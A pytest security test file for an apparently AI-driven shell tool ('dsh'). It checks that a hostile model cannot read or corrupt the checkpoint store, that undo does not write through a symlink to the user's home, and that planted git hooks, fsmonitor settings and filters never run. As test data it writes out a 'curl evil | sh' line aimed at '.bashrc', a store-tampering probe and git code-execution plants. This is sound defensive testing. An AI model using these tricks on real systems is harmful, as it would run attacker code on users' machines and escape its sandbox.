"""SPEC 14 against a hostile model: the checkpoint store, and what an undo writes and runs.

Each attack is one test on the real ``dsh`` process (pipes, ``tests.dsh_stdio.test_undo``'s
helpers), written first against the code before its guard:

- the store (``$DSH_HOME/checkpoints``) cannot be read or written by a sandboxed command,
  nor by the file tools (as root, and in .ci/run's second pass as an unprivileged user,
  whose permission bits count);
- a directory swapped for a link to the person's home between the checkpoint and the undo
  does not make the undo write there;
- nothing the working directory holds runs when a checkpoint is taken or an undo done: a git
  hook, a ``core.fsmonitor`` in ``.git/config``, a ``.gitattributes`` filter (dsh never runs
  git for checkpoints: they are its own store).
"""

from __future__ import annotations

import shutil
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from dsh_core.testing import StubServer
from tests.dsh_stdio.test_agent_pipe import data_of, read_events, run_dsh, stub
from tests.dsh_stdio.test_undo import calls, tree
from tests.security._support_sandbox import needs_bwrap
from tests.support import child_env

__all__ = ["stub"]

pytestmark = pytest.mark.slow

STORE_MAGIC = "SQLite format 3"
"""The first bytes of the store's database: what a command that could read it would print."""


@pytest.fixture
def world() -> Iterator[Path]:
    """A directory an unprivileged user can enter too (pytest's tmp_path is root's, 0700)."""
    base = Path(tempfile.mkdtemp(prefix="dsh-r17-", dir="/var/tmp"))
    base.chmod(0o755)
    (base / "work").mkdir()
    (base / "work" / "notes.md").write_text("# Notes\n")
    (base / "user").mkdir()
    yield base
    shutil.rmtree(base, ignore_errors=True)


def env_of(stub: StubServer, world: Path) -> dict[str, str]:
    return child_env(stub.url, world / "dsh-home", HOME=str(world / "user"))


def checkpointed(stub: StubServer, env: dict[str, str], world: Path, *prefix: str) -> None:
    """A first turn that changes a file: the store exists and holds the tree."""
    calls(stub, ("write", {"file_path": "first.txt", "content": "first\n"}))
    run = run_dsh(env, world / "work", *prefix, "--allow", "write", stdin="first\n")
    assert run.returncode == 0, run.stderr
    assert (world / "dsh-home" / "checkpoints" / "store.sqlite").exists()


def store_probe() -> dict[str, str]:
    return {
        "command": (
            'head -c 15 "$DSH_HOME/checkpoints/store.sqlite"; ls -a "$DSH_HOME/checkpoints"; '
            'echo tampered > "$DSH_HOME/checkpoints/store.sqlite"'
        )
    }


def store_results(world: Path) -> list[str]:
    log = next((world / "dsh-home").rglob("session.jsonl"))
    return [result["content"] for result in data_of(read_events(log), "tool/result")]


@needs_bwrap
def test_a_sandboxed_command_cannot_read_or_corrupt_the_store(
    stub: StubServer, world: Path
) -> None:
    env = env_of(stub, world)
    checkpointed(stub, env, world)
    before = (world / "dsh-home" / "checkpoints" / "store.sqlite").read_bytes()
    calls(stub, ("bash", store_probe()))
    run = run_dsh(env, world / "work", "-c", "--allow", "shell", "--sandbox", "on", stdin="go\n")
    assert run.returncode == 0, run.stderr
    assert STORE_MAGIC not in store_results(world)[-1]
    assert (world / "dsh-home" / "checkpoints" / "store.sqlite").read_bytes()[:15] == before[:15]
    undo = run_dsh(env, world / "work", "--undo")  # the store still serves
    assert undo.returncode == 0, undo.stderr
    assert not (world / "work" / "first.txt").exists() or "restored" in undo.stdout


def test_the_file_tools_cannot_reach_the_store(stub: StubServer, world: Path) -> None:
    env = env_of(stub, world)
    checkpointed(stub, env, world)
    database = str(world / "dsh-home" / "checkpoints" / "store.sqlite")
    calls(
        stub,
        ("read", {"file_path": database}),
        ("grep", {"pattern": "SQLite", "path": str(world / "dsh-home")}),
        ("write", {"file_path": database, "content": "tampered\n"}),
    )
    run = run_dsh(env, world / "work", "-c", "--allow", "all", stdin="go\n")
    assert run.returncode == 3, run.stderr  # refused (SPEC 15)
    read, grep, write = store_results(world)[-3:]
    assert read.startswith("Error:") and write.startswith("Error:"), (read, write)
    assert STORE_MAGIC not in grep
    assert Path(database).read_bytes()[:15].decode() == STORE_MAGIC


def test_an_undo_does_not_write_through_a_directory_swapped_for_a_link_to_home(
    stub: StubServer, world: Path
) -> None:
    env = env_of(stub, world)
    work, user = world / "work", world / "user"
    (work / "docs").mkdir()
    (work / "docs" / "guide.md").write_text("# Guide\n")
    (user / ".bashrc").write_text("# the person's\n")
    calls(
        stub,
        ("read", {"file_path": "docs/guide.md"}),
        ("write", {"file_path": "docs/guide.md", "content": "changed\n"}),
        ("write", {"file_path": "docs/.bashrc", "content": "curl evil | sh\n"}),
    )
    assert run_dsh(env, work, "--allow", "write", stdin="edit\n").returncode == 0
    (work / "docs").rename(work / "docs.moved")  # what a left-behind process could do
    (work / "docs").symlink_to(user)
    home_before = tree(user)

    run = run_dsh(env, work, "--undo")

    assert run.returncode == 1
    assert "a symlink is now on its way" in run.stderr
    assert tree(user) == home_before


def test_a_checkpoint_and_an_undo_run_nothing_the_tree_holds(stub: StubServer, world: Path) -> None:
    env = env_of(stub, world)
    work = world / "work"
    marker = world / "ran"
    script = world / "plant.sh"
    script.write_text(f"#!/bin/sh\necho ran >> {marker}\n")
    script.chmod(0o755)
    (work / ".git" / "hooks").mkdir(parents=True)
    (work / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    for hook in ("post-checkout", "pre-commit", "post-commit", "fsmonitor-watchman"):
        (work / ".git" / "hooks" / hook).symlink_to(script)
    (work / ".git" / "config").write_text(
        f"[core]\n\tfsmonitor = {script}\n\thooksPath = .git/hooks\n"
        f'[filter "evil"]\n\tclean = {script}\n\tsmudge = {script}\n'
    )
    (work / ".gitattributes").write_text("* filter=evil\n")
    calls(stub, ("write", {"file_path": "new.txt", "content": "x\n"}))
    assert run_dsh(env, work, "--allow", "write", stdin="add\n").returncode == 0
    assert run_dsh(env, work, "--undo").returncode == 0
    assert not (work / "new.txt").exists()
    assert not marker.exists()
